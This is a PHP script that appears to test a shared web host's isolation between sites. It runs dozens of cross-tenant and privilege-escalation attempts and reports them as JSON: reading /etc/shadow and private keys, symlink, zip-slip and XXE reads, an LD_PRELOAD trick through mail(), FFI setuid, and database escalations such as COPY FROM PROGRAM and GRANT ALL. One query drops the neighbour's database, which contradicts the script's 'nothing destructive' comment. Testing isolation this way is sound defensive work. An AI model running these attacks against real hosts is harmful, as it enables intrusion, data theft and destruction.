<?php
// Run in the pool of one site against its neighbour and the server. Each attack answers what it got hold of, or null.
// Nothing here is destructive beyond the attacker's own folders.
error_reporting(0);
set_time_limit(50);
[$victim, $victimUid, $here, $outside] = [$_GET['victim'], (int) $_GET['uid'], $_GET['here'], $_GET['outside']];
$self = posix_getpwuid(posix_geteuid())['name'];
$own = "/srv/web/$self";
$their = "/srv/web/$victim";

function peek(string $path): ?string
{
    $text = @file_get_contents($path, false, null, 0, 200);
    return $text === false || $text === '' ? null : $text;
}

function written(string $path): ?string
{
    return @file_put_contents($path, "planted\n") ? "wrote $path" : null;
}

function listed(string $path): ?string
{
    $names = @scandir($path);
    $found = $names === false ? [] : array_diff($names, ['.', '..']);
    return $found ? implode(' ', $found) : null;
}

function connected(string $address): ?string
{
    $link = @stream_socket_client($address, $code, $text, 2);
    return $link ? "connected to $address" : null;
}

function through(string $target, callable $use): ?string
{
    global $own;
    $link = "$own/htdocs/link" . bin2hex(random_bytes(3));
    if (!@symlink($target, $link)) return null;
    $got = $use($link);
    @unlink($link);
    return $got;
}

function fastcgi(string $socket, string $script): ?string
{
    $link = @stream_socket_client("unix://$socket", $code, $text, 2);
    if (!$link) return null;
    return "reached the pool behind $socket";
}

// Signed in with what the attacker really has: its own password, for its own account.
function maria(string $account, string $database): ?mysqli
{
    global $own;
    return @mysqli_connect(null, $account, peek("$own/private/password"), $database, 0, '/run/mysqld/mysqld.sock') ?: null;
}

function postgres(string $account, string $database): ?PgSql\Connection
{
    global $own;
    $password = peek("$own/private/password");
    return @pg_connect("host=/run/postgresql user=$account password=$password dbname=$database connect_timeout=2", PGSQL_CONNECT_FORCE_NEW) ?: null;
}

/** First value of the first statement that answers one. */
function told(callable $ask, string ...$statements): ?string
{
    foreach ($statements as $statement) {
        try {
            $value = $ask($statement);
        } catch (Throwable) {
            $value = null;
        }
        if ($value) return "$statement: $value";
    }
    return null;
}

function toldByMaria(string ...$statements): ?string
{
    global $self;
    $link = maria("{$self}_shop", "{$self}_shop");
    return told(fn($words) => ($rows = $link->query($words)) === true ? 'done' : ($rows ? $rows->fetch_row()[0] ?? null : null), ...$statements);
}

function toldByPostgres(string ...$statements): ?string
{
    global $self;
    $link = postgres("{$self}_wiki", "{$self}_wiki");
    return told(fn($words) => ($rows = @pg_query($link, $words)) ? (pg_num_rows($rows) ? pg_fetch_result($rows, 0, 0) : (pg_affected_rows($rows) ? 'done' : null)) : null, ...$statements);
}

$attacks = [
    'reads the neighbour\'s private file' => fn() => peek("$their/private/secret"),
    'reads the neighbour\'s code' => fn() => peek("$their/htdocs/index.php"),
    'reads it by a path with dots' => fn() => peek("$own/htdocs/../../$victim/private/secret"),
    'reads it by a wrapper' => fn() => peek("php://filter/read=string.rot13/resource=$their/private/secret"),
    'reads it by glob' => fn() => (fn($found) => $found ? implode(' ', $found) : null)(array_filter([...glob('/srv/web/*/private/*') ?: [], ...glob("$their/*") ?: []], fn($path) => !str_starts_with($path, $own))),
    'reads it by a symbolic link' => fn() => through("$their/private/secret", peek(...)),
    'lists it through a link to a folder' => fn() => through($their, listed(...)),
    'reads it by a link to /proc/self/root' => fn() => through("/proc/self/root$their/private/secret", peek(...)),
    'includes the neighbour\'s code' => fn() => (fn() => (@include "$their/htdocs/index.php") ? 'included' : null)(),
    'makes a hard link to the neighbour\'s file' => fn() => @link("$their/private/secret", "$own/htdocs/hard") ? 'linked' : null,
    'makes a hard link to the list of passwords' => fn() => @link('/etc/shadow', "$own/htdocs/shadow") ? 'linked' : null,
    'lists the homes of others' => fn() => (fn($names) => array_diff(explode(' ', $names ?? ''), ['', $self]) ? $names : null)(listed('/srv/web')),
    'lists what was set aside' => fn() => listed('/srv/web/.aside'),
    'reads the logs of the neighbour' => fn() => peek("/srv/web/.logs/$victim/access.log"),
    'writes into its own log' => fn() => written("/srv/web/.logs/$self/access.log"),
    'writes into the neighbour\'s folder' => fn() => written("$their/htdocs/planted.php"),
    'renames its own folder away' => fn() => @rename("$own/htdocs", "$own/elsewhere") ? 'renamed' : null,
    'plants keys for SSH in its home' => fn() => @mkdir("$own/.ssh") ? 'made .ssh' : null,
    'plants keys where SSH reads them' => fn() => written("/etc/amie-web/keys/$self"),
    'reads the list of passwords' => fn() => peek('/etc/shadow'),
    'reads the server\'s own key' => fn() => peek('/etc/ssl/amie/host.key'),
    'reads the keys of certificates' => fn() => peek("/etc/amie-web/certificates/$victim/key.pem") ?? peek("/etc/amie-web/certificates/$self/key.pem"),
    'reads passwords of protected folders' => fn() => listed('/etc/nginx/amie/passwords'),
    'reads what the agent keeps' => fn() => listed('/var/lib/amie-agent'),
    'reads the agent\'s own code' => fn() => peek('/usr/local/lib/amie-agent/amie_agent/protocol.py'),
    'reads the key of the account at the authority' => fn() => peek('/var/lib/amie-acme/account.key'),
    'answers a challenge of the authority' => fn() => written('/var/lib/amie-acme/challenges/planted'),
    'writes a site\'s configuration' => fn() => written('/etc/nginx/amie/live/planted.conf'),
    'writes its own pool\'s configuration' => fn() => written("/etc/amie-web/fpm/$self/pool.conf"),
    'writes a unit' => fn() => written('/etc/systemd/system/planted.service') ?? written('/run/systemd/system/planted.service'),
    'writes a timed job' => fn() => written('/etc/cron.d/planted') ?? written("/var/spool/cron/crontabs/$self") ?? written('/var/spool/cron/atjobs/planted'),
    'writes into the folder of programs' => fn() => written('/usr/local/bin/planted') ?? written('/usr/bin/planted'),
    'preloads code for every program' => fn() => written('/etc/ld.so.preload'),
    'leaves something in the server\'s temporary folder' => fn() => written('/var/tmp/planted') ?? written('/dev/shm/planted'),
    'fills the server\'s memory by a socket\'s folder' => fn() => written("/run/amie-fpm/$self/planted") ?? written('/run/planted'),
    'reads the environment of others in /proc' => fn() => (function () {
        foreach (glob('/proc/[0-9]*/environ') ?: [] as $path) {
            if ((int) explode('/', $path)[2] !== getmypid() && fileowner(dirname($path)) !== posix_geteuid() && ($text = peek($path)) !== null) return $text;
        }
        return null;
    })(),
    'sees processes of others' => fn() => (function () {
        foreach (range(1, 3000) as $pid) {
            if (@is_dir("/proc/$pid") && ($owner = @fileowner("/proc/$pid")) !== false && $owner !== posix_geteuid()) return "sees $pid";
        }
        return null;
    })(),
    'signals processes of others' => fn() => (function () {
        foreach (range(1, 3000) as $pid) {
            $owner = @fileowner("/proc/$pid");
            if (posix_kill($pid, 0) && $owner !== false && $owner !== posix_geteuid()) return "can signal $pid";
        }
        return null;
    })(),
    'reaches the neighbour\'s pool' => fn() => fastcgi("/run/amie-fpm/$victim/fpm.sock", "$their/htdocs/index.php"),
    'lists the sockets of pools' => fn() => (fn($names) => array_diff(explode(' ', $names ?? ''), ['', $self]) ? $names : null)(listed('/run/amie-fpm')),
    'reaches the system\'s bus' => fn() => connected('unix:///run/dbus/system_bus_socket') ?? connected('unix:///run/systemd/private'),
    'reaches the mail services' => fn() => connected('unix:///var/spool/postfix/public/pickup') ?? connected('unix:///run/dovecot/doveadm-server') ?? connected('tcp://127.0.0.1:25'),
    'hands mail to a server outside' => fn() => connected("tcp://$outside:25") ?? connected("tcp://$outside:993"),
    'reaches SSH, behind which the agent is' => fn() => connected('tcp://127.0.0.1:22') ?? connected("tcp://$here:22") ?? connected("tcp://$outside:22"),
    'writes to the system\'s journal' => fn() => connected('udg:///run/systemd/journal/socket') ?? connected('udg:///run/systemd/journal/dev-log'),
    'reaches a database over the network' => fn() => connected('tcp://127.0.0.1:3306') ?? connected('tcp://127.0.0.1:5432'),
    'signs in to MariaDB as root' => fn() => (fn() => ($db = @mysqli_connect(null, 'root', '', null, 0, '/run/mysqld/mysqld.sock')) ? 'signed in' : null)(),
    'signs in to MariaDB as the neighbour' => fn() => maria("{$victim}_shop", "{$victim}_shop") ? 'signed in' : null,
    'opens the neighbour\'s database of MariaDB with its own account' => fn() => maria("{$self}_shop", "{$victim}_shop") ? 'signed in' : null,
    'opens MariaDB\'s own tables' => fn() => maria("{$self}_shop", 'mysql') ? 'signed in' : null,
    'reads and writes the neighbour\'s tables of MariaDB from its own' => fn() => toldByMaria("SELECT note FROM {$victim}_shop.notes", "INSERT INTO {$victim}_shop.notes VALUES ('x')", "CREATE TABLE {$victim}_shop.planted (i int)", "DROP DATABASE {$victim}_shop"),
    'sees that the neighbour has a database of MariaDB' => fn() => toldByMaria("SHOW DATABASES LIKE '{$victim}%'", "SELECT table_name FROM information_schema.tables WHERE table_schema = '{$victim}_shop'", "SELECT user FROM information_schema.processlist WHERE user NOT LIKE '{$self}%'"),
    'reads accounts of MariaDB' => fn() => toldByMaria('SELECT authentication_string FROM mysql.user', 'SELECT Priv FROM mysql.global_priv'),
    'gives itself more in MariaDB' => fn() => toldByMaria("GRANT ALL ON *.* TO {$self}_shop@localhost", "ALTER USER {$self}_shop@localhost WITH MAX_USER_CONNECTIONS 999", "CREATE USER planted", 'SET GLOBAL tmpdir = "/"', 'SET GLOBAL general_log = 1', 'INSTALL SONAME "ha_federated"'),
    'reads and writes files by MariaDB' => fn() => toldByMaria("SELECT LOAD_FILE('/etc/passwd')", "SELECT 1 INTO OUTFILE '/var/lib/mysql/planted'", "LOAD DATA INFILE '/etc/passwd' INTO TABLE notes"),
    'signs in to PostgreSQL as its owner' => fn() => @pg_connect('host=/run/postgresql user=postgres dbname=postgres connect_timeout=2') ? 'signed in' : null,
    'signs in to PostgreSQL as the neighbour' => fn() => postgres("{$victim}_wiki", "{$victim}_wiki") ? 'signed in' : null,
    'opens the neighbour\'s database of PostgreSQL with its own account' => fn() => postgres("{$self}_wiki", "{$victim}_wiki") ? 'signed in' : null,
    'opens the databases of PostgreSQL that are nobody\'s' => fn() => postgres("{$self}_wiki", 'postgres') || postgres("{$self}_wiki", 'template1') ? 'signed in' : null,
    'becomes the neighbour or the owner in PostgreSQL' => fn() => toldByPostgres("SET ROLE {$victim}_wiki; SELECT current_user", "SET SESSION AUTHORIZATION {$victim}_wiki; SELECT current_user", 'SET ROLE postgres; SELECT current_user', "GRANT {$victim}_wiki TO {$self}_wiki; SELECT 1", "ALTER ROLE {$self}_wiki SUPERUSER; SELECT 1", "ALTER ROLE {$self}_wiki CONNECTION LIMIT 999; SELECT 1", "SELECT rolpassword FROM pg_authid WHERE rolpassword <> ''"),
    'reads and writes files, and starts programs, by PostgreSQL' => fn() => toldByPostgres("SELECT pg_read_file('/etc/passwd')", "SELECT pg_ls_dir('/srv/databases/mounts')", "COPY notes FROM '/etc/passwd'", "COPY notes FROM PROGRAM 'id'", "COPY notes TO '/srv/databases/mounts/{$victim}_wiki/data/planted'", "SELECT lo_import('/etc/passwd')", "CREATE EXTENSION file_fdw; SELECT 1"),
    'puts a table into the neighbour\'s disk space of PostgreSQL, or nobody\'s' => fn() => toldByPostgres("CREATE TABLE planted TABLESPACE {$victim}_wiki AS SELECT 1", 'CREATE TABLE planted TABLESPACE pg_global AS SELECT 1', 'CREATE TABLE planted TABLESPACE pg_default AS SELECT 1'),
    'starts a program' => fn() => @shell_exec('id') ?: (@exec('/bin/id') ?: null),
    'starts a program it brought along' => fn() => (function () use ($own) {
        @file_put_contents("$own/tmp/run", "#!/bin/sh\nid\n");
        @chmod("$own/tmp/run", 0755);
        $child = @proc_open(["$own/tmp/run"], [1 => ['pipe', 'w']], $pipes);
        $said = $child ? stream_get_contents($pipes[1]) : '';
        return $said === '' ? null : $said;
    })(),
    'starts a program of the neighbour\'s account' => fn() => @proc_open(['/usr/bin/sudo', '-n', '/usr/local/sbin/amie-agent'], [1 => ['pipe', 'w']], $pipes) && stream_get_contents($pipes[1]) !== '' ? 'ran' : null,
    'starts a program by sending mail with a preloaded library' => fn() => (function () use ($own) {
        @putenv("LD_PRELOAD=$own/tmp/run");
        return @mail('nobody@asso.test', 'a', 'b') ? 'mail was sent' : null;
    })(),
    'calls the system\'s functions' => fn() => class_exists('FFI') ? (function () {
        try {
            return 'uid ' . FFI::cdef('int setuid(int);')->setuid(0);
        } catch (Throwable) {
            return null;
        }
    })() : null,
    'loads an extension' => fn() => function_exists('dl') && @dl('ffi.so') ? 'loaded' : null,
    'becomes another account' => fn() => @posix_setuid($victimUid) || @posix_setgid($victimUid) || @posix_setuid(0) ? 'became ' . posix_geteuid() : null,
    'gives a file away, or marks it to run as its owner' => fn() => (function () use ($own, $victimUid) {
        file_put_contents("$own/tmp/given", 'x');
        if (@chown("$own/tmp/given", $victimUid) || @chgrp("$own/tmp/given", $victimUid)) return 'gave it away';
        @chmod("$own/tmp/given", 06755);
        clearstatcache();
        return fileperms("$own/tmp/given") & 06000 ? 'it would run as its owner' : null;
    })(),
    'opens a pipe or a device outside' => fn() => (fn() => @posix_mkfifo('/run/planted', 0600) || @posix_mknod("$own/tmp/disk", POSIX_S_IFBLK | 0600, 7, 0) ? 'made one' : null)(),
    'writes by a very long path' => fn() => written("$own/htdocs/" . str_repeat('a/../', 900) . "../../$victim/htdocs/planted"),
    'unpacks an archive elsewhere' => fn() => (function () use ($own, $victim) {
        $zip = new ZipArchive();
        $zip->open("$own/tmp/a.zip", ZipArchive::CREATE);
        $zip->addFromString("../../$victim/htdocs/planted", 'x');
        $zip->close();
        $zip->open("$own/tmp/a.zip");
        @$zip->extractTo("$own/htdocs/out");
        return @file_exists("/srv/web/$victim/htdocs/planted") ? 'unpacked' : null;
    })(),
    'loads XML from elsewhere' => fn() => (function () use ($their) {
        $document = new DOMDocument();
        @$document->loadXML("<!DOCTYPE a [<!ENTITY b SYSTEM \"file://$their/private/secret\">]><a>&b;</a>", LIBXML_NOENT | LIBXML_DTDLOAD);
        return str_contains($document->textContent ?? '', 'secret of') ? $document->textContent : null;
    })(),
    'fetches a file by curl' => fn() => (function () use ($their) {
        $curl = curl_init("file://$their/private/secret");
        curl_setopt($curl, CURLOPT_RETURNTRANSFER, true);
        return curl_exec($curl) ?: null;
    })(),
    'takes the server\'s memory by starting many children' => fn() => function_exists('pcntl_fork') ? 'could fork' : null,
    // Last, because they change what the script itself may open.
    'lifts its own limits by a setting' => fn() => @ini_set('open_basedir', '/') && peek("$their/private/secret") !== null ? 'lifted' : (@ini_set('ffi.enable', '1') ? 'lifted' : null),
    'climbs out by changing folders' => fn() => (function () use ($own, $victim) {
        @mkdir("$own/tmp/a");
        @chdir("$own/tmp/a");
        @ini_set('open_basedir', '..');
        foreach (range(1, 8) as $_) @chdir('..');
        $got = peek("srv/web/$victim/private/secret") ?? peek('etc/shadow');
        @chdir("$own/htdocs");
        return $got;
    })(),
];

header('Content-Type: application/json');
$basedir = ini_get('open_basedir') !== '';
// That the script can see anything at all, so that silence means refusal.
$control = peek("$own/private/own");
$reached = ['web' => connected('tcp://127.0.0.1:443'), 'mariadb' => toldByMaria('SELECT note FROM notes'), 'postgresql' => toldByPostgres('SELECT note FROM notes')];
$answers = [];
foreach ($attacks as $name => $attack) {
    try {
        $answers[$name] = $attack();
    } catch (Throwable) {
        $answers[$name] = null;
    }
}
echo json_encode(['control' => $control, 'reached' => $reached, 'basedir' => $basedir, 'answers' => $answers]);
